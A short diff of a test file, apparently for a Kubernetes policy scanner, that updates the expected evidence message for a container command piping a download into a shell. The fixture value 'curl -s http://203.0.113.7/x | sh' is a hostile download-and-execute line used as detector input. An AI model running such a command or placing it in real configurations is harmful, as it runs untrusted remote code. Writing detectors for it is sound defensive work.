@@ -88,7 +88,7 @@ test('the sentence names the container and the way, the value is the pipeline', 
   assert.ok(outcome.kind === 'hit');
   assert.deepEqual(outcome.evidence, [
     {
-      says: 'Container "main" pipes a download into an interpreter.',
+      says: 'Container "main" pipes a download into an interpreter, from "http://203.0.113.7/x".',
       at: '/requestObject/spec/jobTemplate/spec/template/spec/containers/0/command/2',
       value: 'curl -s http://203.0.113.7/x | sh',
       container: 'main',
